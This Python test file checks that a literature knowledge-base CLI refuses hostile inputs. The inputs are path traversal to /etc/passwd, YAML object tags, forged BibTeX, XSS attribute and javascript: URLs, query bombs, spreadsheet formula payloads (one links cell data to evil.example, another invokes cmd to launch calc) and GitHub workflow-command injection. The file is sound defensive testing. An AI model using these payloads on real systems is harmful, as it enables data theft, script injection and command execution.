"""Hostile input to the commands (issue 11, part C): each attack as it was found, and its class.

Full texts outside their folder (verify-quotes), forged BibTeX entries through `kb import`,
attribute injection in `kb cite --format html`, query bombs for `kb search`, formulas in the
evidence-pack CSV, workflow-command injection through `kb check --format github`, and the CLI's
last-resort guard. (`kb diff` and hostile git trees: test_diff_hostile.py.)
"""

from __future__ import annotations

import csv
import io
import os
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import FIXTURES
from litkb.cli import main as cli
from litkb.cli.main import main
from litkb.contrib.bibimport import import_bibtex, rendering_problem
from litkb.core.problems import format_problems, problem
from litkb.emit.exports import packs as exports
from litkb.emit.search.build import update_index
from litkb.emit.search.query import MAX_DEPTH, MAX_NESTING_OPERATORS, MAX_QUERY_CHARS, MAX_WORD_CHARS, QueryError, check_query
from litkb.emit.search.whoosh.searcher import SearchIndex
from litkb.load.bibraw import read_raw
from litkb.rules import quotes
from litkb.rules.link import build_kb

HOSTILE = FIXTURES / "hostile"


def run(root: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["--root", str(root), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def copy(fixture: Path, tmp_path: Path) -> Path:
    dest = tmp_path / fixture.name
    shutil.copytree(fixture, dest)
    return dest


# -- 4. verify-quotes: full texts stay inside the folder given ------------------------------------

@pytest.fixture()
def quotes_kb(tmp_path: Path) -> tuple[Path, Path]:
    """(knowledge base, full-text folder), both copies of the quotes fixture."""
    return copy(FIXTURES / "quotes" / "kb", tmp_path), copy(FIXTURES / "quotes" / "texts", tmp_path)


def verify(root: Path, texts: Path, mapping: str) -> tuple[int, str]:
    (root / "fulltext.yaml").write_text(mapping, encoding="utf-8")
    return run(root, "verify-quotes", "--fulltext", str(texts))


def test_mapped_path_climbing_out_of_the_folder_is_refused(quotes_kb: tuple[Path, Path]) -> None:
    root, texts = quotes_kb
    code, out = verify(root, texts, "# mapped texts\ngronn2009b: ../../../../../../../../etc/passwd\n")
    assert (code, out) == (1, "Error: fulltext.yaml:2:13: gronn2009b: '../../../../../../../../etc/passwd' leads outside the full-text folder; full texts must be inside it\n")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("/etc/passwd", "'/etc/passwd' is an absolute path; name a file inside the full-text folder"),
        ("outside", "'outside' leads outside the full-text folder; full texts must be inside it"),
        ("fifo", "'fifo' is not a regular file"),
        ("sub", "'sub' is not a regular file"),
        ("&a spillane2006.txt", "error KB205: YAML anchor 'a' is not allowed"),
        ("!!python/object:os.system spillane2006.txt", "expected 'key: file name' (plain text, no YAML tags)"),
    ],
)
def test_mapped_names_that_are_not_regular_files_inside_are_refused(quotes_kb: tuple[Path, Path], tmp_path: Path, name: str, expected: str) -> None:
    root, texts = quotes_kb
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret passage\n", encoding="utf-8")
    (texts / "outside").symlink_to(secret)
    os.mkfifo(texts / "fifo")  # reading it would block for ever
    (texts / "sub").mkdir()
    code, out = verify(root, texts, f"gronn2009b: {name}\n")
    assert code == 1
    assert out.startswith("Error: fulltext.yaml:1:") and out.endswith(f"{expected}\n") and out.count("\n") == 1, out
    assert "secret passage" not in out


def test_mapped_text_missing_from_the_folder_is_left_out_with_a_note(quotes_kb: tuple[Path, Path]) -> None:
    """The committed mapping names the seeds' texts; a contributor's folder holding only their own
    PDF must still work: the absent text is left out (its quotes go to the fingerprint), said on a
    located note line, and the texts that are there are used."""
    root, texts = quotes_kb
    result = CliRunner().invoke(main, ["--root", str(root), "verify-quotes", "--fulltext", str(texts)], catch_exceptions=False)
    with_all = result.exit_code
    (root / "fulltext.yaml").write_text("# mapped texts\nsomeseed2013: not-here.txt\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["--root", str(root), "verify-quotes", "--fulltext", str(texts)], catch_exceptions=False)
    assert result.exit_code == with_all
    assert "note: fulltext.yaml:2:15: someseed2013: 'not-here.txt' is not in the full-text folder; left out" in result.stderr
    absent: list[str] = []
    assert "someseed2013" not in quotes.load_fulltexts(texts, root / "fulltext.yaml", "fulltext.yaml", absent)
    assert absent == ["fulltext.yaml:2:15: someseed2013: 'not-here.txt' is not in the full-text folder; left out"]


def test_texts_named_by_key_must_be_regular_files_inside(quotes_kb: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root, texts = quotes_kb
    (root / "fulltext.yaml").unlink()
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret passage\n", encoding="utf-8")
    (texts / "gronn2009b.txt").symlink_to(secret)
    assert run(root, "verify-quotes", "--fulltext", str(texts)) == (
        1, f"Error: {texts / 'gronn2009b.txt'} leads outside the full-text folder; full texts must be inside it\n")
    (texts / "gronn2009b.txt").unlink()
    monkeypatch.setattr(quotes, "MAX_FULLTEXT_BYTES", 100)
    assert run(root, "verify-quotes", "--fulltext", str(texts)) == (
        1, f"Error: {texts / 'spillane2006.txt'} has {(texts / 'spillane2006.txt').stat().st_size:,} bytes; a full text may have at most 100\n")


def test_symlink_inside_the_folder_and_map_option_still_work(quotes_kb: tuple[Path, Path], tmp_path: Path) -> None:
    root, texts = quotes_kb
    (texts / "copy").symlink_to(texts / "spillane2006.txt")
    assert verify(root, texts, "gronn2009b: copy\n")[0] == 0
    mapping = tmp_path / "my-map.yaml"
    mapping.write_text("gronn2009b: ../secret.txt\n", encoding="utf-8")
    code, out = run(root, "verify-quotes", "--fulltext", str(texts), "--map", str(mapping))
    assert (code, out) == (1, f"Error: {mapping}:1:13: gronn2009b: '../secret.txt' leads outside the full-text folder; full texts must be inside it\n")


# -- 6. kb import: a value cannot close its entry -------------------------------------------------

IMPORT_REPORT = """\
refused braces2020 (class.bib:3): field 'note' has braces that do not pair up; balance them (a literal brace is \\{ or \\})
refused closeopen2020 (class.bib:11): field 'title' has braces that do not pair up; balance them (a literal brace is \\{ or \\})
refused backslash2020 (class.bib:17): field 'title' has braces that do not pair up; balance them (a literal brace is \\{ or \\})
added quotes2020
added at2020
added escaped2020
refused fieldname2020 (class.bib:41): field name 'ti@tle' has characters that are not allowed (use letters, digits, _ - . :)
refused spacekey 2020 (class.bib:48): key has characters unsafe in a file name or URL (use letters, digits, _ - . : only)
refused pct%2020 (class.bib:53): key has characters unsafe in a file name or URL (use letters, digits, _ - . : only)
class.bib: 3 added, 0 duplicate(s) skipped, 6 refused
"""


def test_import_cannot_smuggle_a_second_entry(tmp_path: Path) -> None:
    root = copy(FIXTURES / "contrib" / "kb", tmp_path)
    before = {e.key for e in read_raw((root / "references.bib").read_text(encoding="utf-8"))[1]}
    code, out = run(root, "import", str(HOSTILE / "class.bib"))
    assert (code, out) == (1, IMPORT_REPORT)
    after = read_raw((root / "references.bib").read_text(encoding="utf-8"))[1]
    assert {e.key for e in after} == before | {"quotes2020", "at2020", "escaped2020"}
    kb = build_kb(root)
    assert [p.text() for p in kb.problems] == []
    assert set(kb.sources) == before | {"quotes2020", "at2020", "escaped2020"}
    assert kb.sources["quotes2020"].verification == "unverified"
    # What looks like an entry inside a value stays text of that value.
    assert "  title = {An @ sign and 50% of @article{forged, title={F}, year={1}}},\n" in (root / "references.bib").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("value", "refused"),
    [("x}} @article{forged, title={F}, year={1}} @comment{", True), ("a} {b", True), ("{", True), ("ends in \\", True),
     ("\\{ alone", False), ("{nested {braces}} and \"quotes\"", False), ("@article{k, title={t}}", False), ("50% \\& more", False)],
)
def test_rendering_reads_back_or_is_refused(value: str, refused: bool) -> None:
    _, (entry,) = read_raw("@article{k,\n  title = {T},\n  year = {2001},\n}\n")
    hostile = entry.__class__(entry.key, entry.entry_type, (*entry.fields, ("note", value)), 1, 4)
    assert (rendering_problem(hostile) is not None) == refused


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(["@article{", "@comment{", "@string{", "@preamble{", "k1,", "k2,", "title = ", "year = {2001},", "verification = {verified}",
                                 "{", "}", "\"", "\\", "%", "@", "#", ",", "\n", " ", "x"]), max_size=60).map("".join))
def test_what_an_import_adds_is_exactly_what_it_reports(export: str) -> None:
    """Whatever the export holds, the new library holds the old entries plus the entries reported
    as added, each with the fields it had in the export (and provenance), and nothing else."""
    library = (FIXTURES / "contrib" / "kb" / "references.bib").read_text(encoding="utf-8")
    result = import_bibtex(library, export, "fuzz.bib")
    old = read_raw(library)[1]
    added = {o.key for o in result.added}
    new = read_raw(result.text)[1]
    assert [e.key for e in new if e.key not in added] == [e.key for e in old]
    exported = {e.key: dict(e.fields) for e in read_raw(export)[1]}
    for entry in new:
        if entry.key in added:
            fields = dict(entry.fields)
            assert {n: v for n, v in fields.items() if n not in ("verification", "verification_note")} == {
                n: " ".join(v.split()) for n, v in exported[entry.key].items() if n not in ("verification", "verification_note") and n in fields}


# -- 7. kb cite --format html: only escaped http(s) links ----------------------------------------

class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("doi", '10.1/x"onmouseover="alert(1)"'),
        ("doi", "10.1/x'onmouseover='alert(1)'"),
        ("doi", '10.1/x" onmouseover="alert(1)'),
        ("url", 'https://example.org/a"b\'c<d>e`f'),
        ("url", "https://example.org/<script>alert(1)</script>"),
        ("url", "javascript:alert(1)"),
        ("url", "data:text/html,<script>alert(1)</script>"),
        ("url", "https://example.org/a b\" onclick=\"x"),
        ("url", "JaVaScRiPt:alert(1)//https://example.org"),
    ],
)
def test_cite_html_links_are_escaped_http_urls_only(tmp_path: Path, field: str, value: str) -> None:
    root = copy(FIXTURES / "contrib" / "kb", tmp_path)
    entry = f"\n@article{{hostile2020,\n  author = {{Doe, Jane}},\n  title = {{Hostile}},\n  journal = {{J}},\n  year = {{2020}},\n  {field} = {{{value}}},\n  verification = {{unverified}},\n}}\n"
    with (root / "references.bib").open("a", encoding="utf-8") as bib:
        bib.write(entry)
    for style in ("apa", "harvard"):
        code, out = run(root, "cite", "hostile2020", "--format", "html", "--style", style)
        assert code == 0, out
        parser = _Tags()
        parser.feed(out)
        for tag, attrs in parser.tags:
            assert tag in ("i", "a"), (tag, out)
            if tag == "a":
                assert [name for name, _ in attrs] == ["href"], out
                href = attrs[0][1] or ""
                assert href.startswith(("https://", "http://")) and " " not in href, out
        if value.startswith(("javascript:", "data:")):
            assert "<a " not in out


# -- 11. kb search: bounded queries ---------------------------------------------------------------

@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("(" * 500 + "a" + ")" * 500, f"query of 1,001 characters; the limit is {MAX_QUERY_CHARS:,}"),
        ("a" * 30_000, f"query of 30,000 characters; the limit is {MAX_QUERY_CHARS:,}"),
        ("b" * (MAX_WORD_CHARS + 1), f"a word of {MAX_WORD_CHARS + 1} characters (starting 'bbbbbbbbbbbbbbbbbbbb'); the limit is {MAX_WORD_CHARS}"),
        ("(" * (MAX_DEPTH + 1) + "a" + ")" * (MAX_DEPTH + 1), f"parentheses nested more than {MAX_DEPTH} deep; write a flatter query"),
        (" ANDMAYBE ".join(["a"] * (MAX_NESTING_OPERATORS + 2)), f"more than {MAX_NESTING_OPERATORS} ANDNOT/ANDMAYBE in one query; use NOT, or split the query"),
    ],
)
def test_query_bombs_are_one_line_errors(tmp_path: Path, query: str, message: str) -> None:
    with pytest.raises(QueryError) as caught:
        check_query(query)
    assert str(caught.value) == message
    # The command refuses before it looks for an index: exit 2, one line.
    assert run(tmp_path, "search", query) == (2, f"Error: bad query: {message}\n")


def test_queries_at_the_bounds_are_answered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "index"
    update_index(build_kb(FIXTURES / "search" / "kb"), folder)
    at_bounds = ["(" * MAX_DEPTH + "hierarchies" + ")" * MAX_DEPTH, " ANDNOT ".join(["hierarchies"] + ["zzz"] * MAX_NESTING_OPERATORS),
                 "x" * MAX_WORD_CHARS, " ".join(["hierarchies"] * (MAX_QUERY_CHARS // 12))]
    with SearchIndex(folder) as ix:
        for query in at_bounds:
            check_query(query)
            ix.search(query)
        # The did-you-mean step skips a long word instead of comparing it with every known word.
        import litkb.emit.search.whoosh.searcher

        def no_comparison(*_args: object) -> None:
            raise AssertionError("a long word reached the spelling corrector")

        monkeypatch.setattr(litkb.emit.search.whoosh.searcher, "ListCorrector", no_comparison)
        assert ix.search("hierarchiesx" + "y" * 40).did_you_mean is None
        with pytest.raises(AssertionError):
            ix.search("hierarchiesx")


# -- 12. evidence-pack CSV: no formulas -----------------------------------------------------------

def test_csv_cells_that_start_like_formulas_are_quoted(tmp_path: Path) -> None:
    root = copy(FIXTURES / "cite" / "kb", tmp_path)
    note = root / "kb" / "sources" / "torrance2013catch22.yaml"
    starts = ['"=HYPERLINK(\\"https://evil.example/\\"&A1)"', '"+1+cmd|\' /C calc\'!A0"', '"-2+3"', '"@SUM(A1:A9)"', '"\\tcell"', '"\\r=1"']
    text = note.read_text(encoding="utf-8")
    lines = text.splitlines()
    texts = [i for i, line in enumerate(lines) if line.startswith("    text: ") and not line.endswith(">-")]
    assert len(texts) >= 1
    lines[texts[0]] = f"    text: {starts[0]}"
    quote_lines = [i for i, line in enumerate(lines) if line.startswith("    quote: ")]
    locator_lines = [i for i, line in enumerate(lines) if line.startswith("    locator: ")]
    for i, value in zip(quote_lines, starts[1:4], strict=False):
        lines[i] = f"    quote: {value}"
    for i, value in zip(locator_lines, starts[4:], strict=False):
        lines[i] = f"    locator: {value}"
    note.write_text("\n".join(lines) + "\n", encoding="utf-8")
    kb = build_kb(root)
    assert not kb.errors, [p.text() for p in kb.errors]
    cells = [cell for concept in kb.concepts for row in csv.reader(io.StringIO(exports.claims_csv(kb, concept), newline="")) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # (The loader strips a value's leading tab or CR, so "\r=1" arrives as "=1".)
    for start in ("'=HYPERLINK(", "'+1+cmd", "'-2+3", "'@SUM(", "'=1"):
        assert any(cell.startswith(start) for cell in cells), start
    assert [exports.spreadsheet_safe(c) for c in ("\tcell", "\r=1", "a=b", "", " =1")] == ["'\tcell", "'\r=1", "a=b", "", " =1"]


# -- 13. kb check --format github: properties and message escaped --------------------------------

def test_github_annotations_cannot_inject_workflow_commands(tmp_path: Path) -> None:
    root = copy(FIXTURES / "invalid" / "valid", tmp_path)
    name = "x\n::error file=evil.yaml::forged\n::stop-commands::token,a:b%.yaml"
    (root / "kb" / "sources" / name).write_text("key: x\n", encoding="utf-8")
    code, out = run(root, "check", "--format", "github")
    assert code == 1
    # The loader refuses a file name with control characters (KB007) and shows it with the
    # control characters as escapes; the GitHub format then escapes the property's ':' ',' '%'.
    escaped = "kb/sources/x\\n%3A%3Aerror file=evil.yaml%3A%3Aforged\\n%3A%3Astop-commands%3A%3Atoken%2Ca%3Ab%25.yaml"
    assert out.splitlines() == [
        f"::error file={escaped},line=1,col=1,title=KB007::file name has characters that are not allowed "
        "(control, format or invalid bytes) (rename the file to <key>.yaml)",
    ]
    assert all(line.startswith("::error file=kb/sources/") for line in out.splitlines())
    # The text format keeps each problem on one line too, with the control characters visible.
    code, out = run(root, "check")
    assert "kb/sources/x\\n::error file=evil.yaml::forged\\n::stop-commands::token,a:b%.yaml:1:1: error KB007: file name has characters that are not allowed (control, format or invalid bytes) (rename the file to <key>.yaml)" in out.splitlines()


def test_github_escapes_follow_the_runner() -> None:
    p = problem("a,b:c%d\re\nf", 3, 4, "KB201", "50% done\r\n::warning::x,y:z")
    assert format_problems([p], "github") == "::error file=a%2Cb%3Ac%25d%0De%0Af,line=3,col=4,title=KB201::50%25 done%0D%0A::warning::x,y:z"
    assert problem("a\x1b[2Jb\u202e.yaml", 1, 1, "KB201", "tab\there").text() == "a\\x1b[2Jb\\u202e.yaml:1:1: error KB201: tab\\there"


# -- 14. the CLI's last-resort guard --------------------------------------------------------------

def guarded(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], raised: BaseException, *args: str) -> tuple[int, str, str]:
    """Run ``kb ARGS`` through the entry point with ``build_kb`` raising ``raised``."""
    import litkb.rules.link

    def broken(*_args: object, **_kwargs: object) -> None:
        raise raised

    monkeypatch.setattr(litkb.rules.link, "build_kb", broken)
    with pytest.raises(SystemExit) as exit_info:
        cli.run(list(args))
    out, err = capsys.readouterr()
    return int(exit_info.value.code or 0), out, err


def test_an_unexpected_exception_is_one_line_and_exit_1(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("KB_DEBUG", raising=False)
    code, out, err = guarded(monkeypatch, capsys, RuntimeError("something\nbroke"), "--root", str(FIXTURES / "invalid" / "valid"), "check")
    assert (code, out) == (1, "")
    assert err == "kb: internal error: RuntimeError: something broke (please report it; run with KB_DEBUG=1 for the traceback)\n"


def test_kb_debug_shows_the_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    import litkb.rules.link

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(litkb.rules.link, "build_kb", broken)
    monkeypatch.setenv("KB_DEBUG", "1")
    with pytest.raises(RuntimeError, match="boom"):
        cli.run(["--root", str(FIXTURES / "invalid" / "valid"), "check"])


def test_interrupt_is_quiet_exit_130(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = guarded(monkeypatch, capsys, KeyboardInterrupt(), "--root", str(FIXTURES / "invalid" / "valid"), "check")
    assert (code, out, err.strip()) == (130, "", "")


def test_click_errors_and_exits_pass_through(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for args, status in (([], 2), (["--help"], 0), (["no-such-command"], 2), (["--root", str(tmp_path), "search", "((a"], 2),
                         (["--root", str(FIXTURES / "invalid" / "valid"), "check"], 0), (["--root", str(FIXTURES / "invalid" / "unknown-concept"), "check"], 1)):
        with pytest.raises(SystemExit) as exit_info:
            cli.run(args)
        assert exit_info.value.code == status, args
        _, err = capsys.readouterr()
        assert "internal error" not in err and "Traceback" not in err
